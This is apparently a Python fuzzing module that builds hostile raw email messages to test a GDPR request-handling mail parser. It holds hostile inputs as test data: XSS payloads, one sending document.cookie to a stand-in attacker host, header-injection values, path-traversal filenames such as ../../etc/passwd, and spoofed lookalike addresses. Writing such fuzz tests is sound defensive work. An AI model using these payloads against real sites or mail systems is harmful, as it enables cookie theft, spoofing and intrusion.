"""Hypothesis strategies for hostile mail: raw bytes that break every rule a mail parser relies on.

`hostile_mail()` draws whole messages: header values with CR/LF/NUL, raw 8-bit and mixed charsets,
RFC 2047 garbage, huge and repeated headers, missing From/Date/Message-ID, lookalike and bidi
addresses, broken MIME (boundaries missing, wrong or absent; base64 and quoted-printable errors;
nesting hundreds deep), HTML with scripts, and request letters among the noise so that some of it
opens cases. Placeholders are filled in by the fuzz target (`tests/fuzz/targets.py`):
`@@UNIQ@@` a fresh number (unique Message-IDs), `@@REF@@` a case reference it has seen, `@@MSGID@@`
a Message-ID it has seen (replies that must thread onto an existing case).
"""
from __future__ import annotations

import base64
import quopri

from hypothesis import strategies as st

#: Request letters and commands (several languages) and ordinary mail: some of each opens a case.
TEXTS = [
    "I want a copy of all the personal data you hold about me (GDPR article 15).",
    "Please delete my account and all my personal data (right to erasure, Art. 17 GDPR).",
    "Bonjour, en application de l'article 15 du RGPD je souhaite obtenir une copie de mes données personnelles.",
    "Merci de supprimer toutes mes données personnelles.",
    "Hiermit verlange ich Auskunft gemäß Art. 15 DSGVO über meine personenbezogenen Daten.",
    "Solicito el acceso a mis datos personales conforme al artículo 15 del RGPD.",
    "Unsubscribe",
    "Where is my order? It was due last week.",
    "Thanks for the quick delivery!",
    "Out of office until Monday.",
    "Delivery Status Notification (Failure)",
    "",
]

#: Text that disguises itself: bidi overrides and isolates, zero-width, homoglyphs, BOM, soft hyphen.
DISGUISES = [
    "\u202egnp.exe", "\u2066admin\u2069", "\u200b\u200c\u200d\u2060", "\ufeff", "p\u0430yp\u0430l",  # Cyrillic a
    "\u00ad", "\u061c", "\u202a\u202b\u202c\u202d", "camille\u200b.martin@example.fr", "\U0001F600" * 3,
    "\ud7ff\ue000\uffff", "\u0301\u0301\u0301", "ｆｕｌｌｗｉｄｔｈ", "\u2028\u2029",
]

#: Addresses a lookalike attacker uses, and address-header syntax parsers get wrong.
ADDRESSES = [
    "camille.martin@example.fr", "Camille Martin <camille.martin@example.fr>",
    "camille.martin@examp1e.fr", "camille.martin@exаmple.fr",  # digit one; Cyrillic a
    "\"camille.martin@example.fr\" <thief@evil.example>", "camille.martin@example.fr <thief@evil.example>",
    "=?utf-8?q?camille.martin=40example.fr?= <thief@evil.example>",
    "\u202ecamille.martin@example.fr\u202c <x@evil.example>", "Jane <jane@[127.0.0.1]>",
    "undisclosed-recipients:;", "group: a@example.org, b@example.org;", "<>", "@", "no-at-sign", "",
    "a@b@c", "\"quoted local\"@example.org", "x@example.org (comment (nested))", "<a@example.org",
    "jane@münchen.example", "用户@例子.广告", "a" * 300 + "@example.org", "a@" + "b." * 200 + "org",
    "mailer-daemon@example.net", "postmaster@example.net", "confidentialite@shop.example",
]

CHARSETS = ["utf-8", "iso-8859-1", "cp1252", "koi8-r", "shift_jis", "gb2312", "utf-16", "utf-7", "ascii"]
BAD_CHARSETS = ["x-no-such-charset", "unknown-8bit", "", "utf-8\"; x=\"", "\x00", "utf-8' OR '1'='1", "a" * 300]
ENCODINGS = ["7bit", "8bit", "binary", "base64", "quoted-printable", "x-uuencode", "BASE64", "garbage", ""]
HTML = [
    "<html><head><script>alert(document.cookie)</script><style>p{display:none}</style></head>"
    "<body><p>{text}</p><img src=x onerror=alert(1)></body></html>",
    "<p>{text}<script>fetch('https://evil.example/'+document.cookie)",  # never closed
    "<div>{text}</div><!-- <script>alert(1)</script> --><iframe src='javascript:alert(1)'></iframe>",
    "<a href=\"javascript:alert(1)\">{text}</a>&lt;script&gt;&#x3C;&#0;&amp;&nbsp;&bogus;",
    "<table>" + "<tr><td>" * 200 + "{text}" + "</td></tr>" * 200 + "</table>",
    "<![CDATA[{text}]]><svg><script>alert(1)</script></svg><math><mi>{text}</mi></math>",
    "{text}",
]
HEADER_NAMES = ["Subject", "To", "Cc", "Reply-To", "Return-Path", "In-Reply-To", "References", "Received",
                "Auto-Submitted", "Precedence", "List-Id", "List-Unsubscribe", "X-Autoreply", "Authentication-Results",
                "Content-Language", "X-Dsarbot-Ref", "Sender", "Resent-From", "Delivered-To", "X-Mailer"]

NEWLINES = st.sampled_from([b"\r\n", b"\n", b"\r", b"\n\r"])


def _enc(text: str, charset: str) -> bytes:
    try:
        return text.encode(charset, "replace")
    except (LookupError, ValueError):  # no such codec (the names are hostile too)
        return text.encode("utf-8", "surrogatepass")


unicode_text = st.text(st.characters(codec="utf-8"), max_size=80)
any_text = st.one_of(
    st.sampled_from(TEXTS), st.sampled_from(DISGUISES), unicode_text,
    st.builds(lambda a, b: a + b, st.sampled_from(TEXTS), st.sampled_from(DISGUISES)),
    st.text(st.characters(min_codepoint=0, max_codepoint=0x20), max_size=20),  # controls, NUL, CR, LF
)


@st.composite
def encoded_word(draw) -> bytes:
    """An RFC 2047 encoded word, valid or broken in one of the ways seen in the wild."""
    text = draw(any_text)
    charset = draw(st.sampled_from(CHARSETS + BAD_CHARSETS))
    raw = _enc(text, charset if charset in CHARSETS else "utf-8")
    kind = draw(st.sampled_from(["b", "q", "B", "Q", "x", ""]))
    if kind.lower() == "b":
        payload = base64.b64encode(raw)
        payload = draw(st.sampled_from([payload, payload[:-1], payload + b"!!", b"////", b"=",
                                        payload.replace(b"=", b"")]))
    else:
        payload = quopri.encodestring(raw, header=True).replace(b"\n", b"")
        payload = draw(st.sampled_from([payload, payload + b"=Z", b"=ZZ=", payload.replace(b"=", b"= ")]))
    word = b"=?" + charset.encode("utf-8", "surrogatepass") + b"?" + kind.encode() + b"?" + payload + b"?="
    return draw(st.sampled_from([word, word[:-2], word + word, b"prefix" + word + b"suffix", word * 30]))


@st.composite
def header_value(draw) -> bytes:
    """A header value: plain, 8-bit in any charset, encoded words, injected line breaks, or huge."""
    kind = draw(st.sampled_from(["text", "8bit", "encoded", "inject", "folded", "huge", "placeholder"]))
    if kind == "text":
        return draw(any_text).encode("utf-8", "surrogatepass")
    if kind == "8bit":
        return _enc(draw(any_text), draw(st.sampled_from(CHARSETS))) + draw(st.binary(max_size=20))
    if kind == "encoded":
        return b" ".join(draw(st.lists(st.one_of(encoded_word(), st.binary(max_size=10)), min_size=1, max_size=4)))
    if kind == "inject":
        base = draw(any_text).encode("utf-8", "surrogatepass")
        return base + draw(st.sampled_from([b"\r\nBcc: victim@example.org", b"\nFrom: ceo@shop.example", b"\x00",
                                            b"\r", b"\r\n\r\nbody starts here", b"\n\t", b"\x0b\x0c"]))
    if kind == "folded":
        return b"\r\n ".join(draw(st.lists(st.binary(min_size=1, max_size=30), min_size=2, max_size=50)))
    if kind == "huge":
        size = draw(st.sampled_from([998, 10_000, 100_000, 400_000]))
        return draw(st.sampled_from([b"a", b"=?utf-8?b?w6k=?= ", b"\xe9", b"x,"])) * size
    return draw(st.sampled_from([b"Re: [@@REF@@] my request", b"@@REF@@", b"<@@MSGID@@>", b"Fwd: @@REF@@"]))


@st.composite
def address(draw) -> bytes:
    choice = draw(st.sampled_from(["known", "encoded", "8bit", "random"]))
    if choice == "known":
        return draw(st.sampled_from(ADDRESSES)).encode("utf-8")
    if choice == "encoded":
        return draw(encoded_word()) + b" <" + draw(st.sampled_from(ADDRESSES)).encode() + b">"
    if choice == "8bit":
        return _enc(draw(any_text), draw(st.sampled_from(CHARSETS))) + b" <x@example.org>"
    return draw(header_value())


#: `(present?, how many times)` for From, Date and Message-ID: missing, once, or repeated.
def _times() -> st.SearchStrategy[int]:
    return st.sampled_from([0, 1, 1, 1, 2, 3])


date_value = st.sampled_from([b"Mon, 2 Mar 2026 10:00:00 +0100", b"garbage", b"", b"Thu, 31 Feb 0000 25:61:61 -9999",
                              b"Fri, 31 Dec 9999 23:59:59 +0000", b"1709370000", b"2026-03-02T10:00:00Z",
                              b"Mon, 2 Mar 2026 10:00:00 +0100 (CET)\x00"])
message_id_value = st.one_of(
    st.just(b"<@@UNIQ@@@fuzz.example>"), st.just(b"<@@UNIQ@@@fuzz.example>"), st.just(b"<@@UNIQ@@@fuzz.example>"),
    st.sampled_from([b"", b"<>", b"no-brackets-@@UNIQ@@", b"<a b@c>", b"<@@UNIQ@@@x> <second@x>",
                     b"<" + b"x" * 2000 + b">",
                     b"<@@UNIQ@@\r\n@x>", b"<@@MSGID@@>"]),
    header_value(),
)


# --- bodies ------------------------------------------------------------------------------------------
@st.composite
def transfer(draw, data: bytes) -> tuple[bytes, bytes]:
    """(Content-Transfer-Encoding, payload): the declared encoding, applied well, badly or not at all."""
    cte = draw(st.sampled_from(ENCODINGS))
    how = draw(st.sampled_from(["right", "right", "wrong", "corrupt"]))
    if how == "right" and cte.lower() == "base64":
        return cte.encode(), base64.encodebytes(data)
    if how == "right" and cte.lower() == "quoted-printable":
        return cte.encode(), quopri.encodestring(data)
    if how == "corrupt":
        return cte.encode(), draw(st.sampled_from([b"!!!not*base64===", b"=ZZ=\r\n=4", b"begin 644 x\nM\n",
                                                   base64.encodebytes(data)[:-3] + b"@@", b"=\r\n" * 50]))
    return cte.encode(), data


@st.composite
def leaf_part(draw) -> tuple[list[tuple[bytes, bytes]], bytes]:
    """(headers, body) of one MIME leaf: text, HTML, an attachment, or a message inside a message."""
    kind = draw(st.sampled_from(["text/plain", "text/html", "attachment", "message/rfc822", "x/garbage"]))
    charset = draw(st.sampled_from(CHARSETS + BAD_CHARSETS))
    text = draw(any_text)
    headers: list[tuple[bytes, bytes]] = []
    if kind == "text/html":
        body = _enc(draw(st.sampled_from(HTML)).replace("{text}", text), charset)
    elif kind == "attachment":
        body = draw(st.binary(max_size=300))
        name = draw(st.sampled_from(["../../etc/passwd", "..\\..\\boot.ini", "id card.pdf", "\u202egnp.exe",
                                     "a" * 500 + ".pdf", "", "nul\x00name.txt", "/abs/path", "CON", ".hidden"]))
        disposition = draw(st.sampled_from([
            b'attachment; filename="' + name.encode("utf-8", "surrogatepass") + b'"',
            b"attachment; filename*=utf-8''" + name.encode("utf-8", "surrogatepass").hex().encode(),
            b"attachment; filename*0=a; filename*1=../b; filename*2*=%E2%80%AE", b"inline", b"attachment; filename",
            b"attachment;;;", b"attachment; filename=\"" + b"\xff\xfe" * 40 + b"\""]))
        headers.append((b"Content-Disposition", disposition))
    elif kind == "message/rfc822":
        body = b"From: inner@example.org\r\nSubject: " + _enc(text, "utf-8") + b"\r\n\r\n" + _enc(text, charset)
    else:
        body = draw(st.binary(max_size=200))
    content_type = (b"application/pdf" if kind == "attachment" else kind.encode())
    headers.insert(0, (b"Content-Type", content_type + b"; charset=" + charset.encode("utf-8", "surrogatepass")))
    if kind != "message/rfc822" and draw(st.booleans()):
        cte, body = draw(transfer(_enc(text, charset) if kind == "text/plain" else body))
        headers.append((b"Content-Transfer-Encoding", cte))
    elif kind == "text/plain":
        body = _enc(text, charset)
    return headers, body


def _boundary_of(draw) -> bytes:
    return draw(st.sampled_from([b"b@@UNIQ@@", b"simple", b"", b"x" * 500, b"with space", b"'\"quoted\"'", b"--",
                                 b"=_part_0", b"\xe9\xe8", b"b\r\nInjected: yes"]))


@st.composite
def multipart(draw, children: st.SearchStrategy) -> tuple[list[tuple[bytes, bytes]], bytes]:
    """A multipart made of `children`, with the ways boundaries break: missing, wrong, absent param."""
    boundary = _boundary_of(draw)
    subtype = draw(st.sampled_from([b"mixed", b"alternative", b"related", b"report", b"signed", b"x-garbage"]))
    parts = draw(st.lists(children, min_size=0, max_size=4))
    nl = draw(NEWLINES)
    lines = [draw(st.sampled_from([b"", b"This is a multi-part message in MIME format.", b"--" + boundary + b"--"]))]
    for headers, body in parts:
        lines.append(b"--" + boundary)
        lines.extend(name + b": " + value for name, value in headers)
        lines.append(b"")
        lines.append(body)
    ending = draw(st.sampled_from(["close", "close", "missing", "wrong", "twice"]))
    if ending == "close":
        lines.append(b"--" + boundary + b"--")
    elif ending == "wrong":
        lines.append(b"--not-the-boundary--")
    elif ending == "twice":
        lines.extend([b"--" + boundary + b"--", b"--" + boundary + b"--", b"epilogue"])
    param = draw(st.sampled_from([b'; boundary="' + boundary + b'"', b"; boundary=" + boundary, b"", b"; boundary=",
                                  b'; boundary="other"']))
    return [(b"Content-Type", b"multipart/" + subtype + param)], nl.join(lines)


mime_tree = st.recursive(leaf_part(), lambda children: multipart(children), max_leaves=8)


@st.composite
def deep_nesting(draw) -> tuple[list[tuple[bytes, bytes]], bytes]:
    """multipart inside multipart, hundreds deep (a parser that recurses per level falls over)."""
    depth = draw(st.sampled_from([11, 60, 300, 1200]))
    opening = b"".join(b'Content-Type: multipart/mixed; boundary="d%d"\r\n\r\n--d%d\r\n' % (i, i)
                       for i in range(1, depth))
    closing = b"".join(b"\r\n--d%d--" % i for i in reversed(range(1, depth)))
    body = b"--d0\r\n" + opening + b"Content-Type: text/plain\r\n\r\n" \
        + draw(any_text).encode("utf-8", "surrogatepass") \
        + closing + b"\r\n--d0--\r\n"
    return [(b"Content-Type", b'multipart/mixed; boundary="d0"')], body


# --- whole messages ----------------------------------------------------------------------------------
@st.composite
def hostile_mail(draw) -> bytes:
    """One whole raw message."""
    headers: list[tuple[bytes, bytes]] = []
    for name, value in ((b"From", address()), (b"Date", date_value), (b"Message-ID", message_id_value)):
        headers.extend((name, draw(value)) for _ in range(draw(_times())))
    headers.append((b"Subject", draw(st.one_of(header_value(), st.sampled_from(TEXTS).map(str.encode)))))
    for _ in range(draw(st.integers(0, 4))):
        headers.append((draw(st.sampled_from(HEADER_NAMES)).encode(), draw(header_value())))
    if draw(st.integers(0, 9)) == 0:  # a flood of headers, or names no parser expects
        headers.extend((b"X-Flood-%d" % i, b"v") for i in range(draw(st.sampled_from([600, 3000]))))
    if draw(st.integers(0, 5)) == 0:
        headers.append((draw(st.binary(min_size=0, max_size=12)), draw(header_value())))
    draw(st.randoms()).shuffle(headers)
    part_headers, body = draw(st.one_of(mime_tree, mime_tree, deep_nesting()))
    if draw(st.booleans()):
        headers.append((b"MIME-Version", b"1.0"))
    headers.extend(part_headers)
    nl = draw(NEWLINES)
    head = nl.join(name + b": " + value for name, value in headers)
    start = draw(st.sampled_from([b"", b"", b"From someone Mon Mar  2 10:00:00 2026\n", b" continuation first\r\n",
                                  b"\xef\xbb\xbf", b"\r\n"]))
    separator = draw(st.sampled_from([nl + nl, nl + nl, nl, b""]))  # no blank line: the body runs into the headers
    return start + head + separator + body
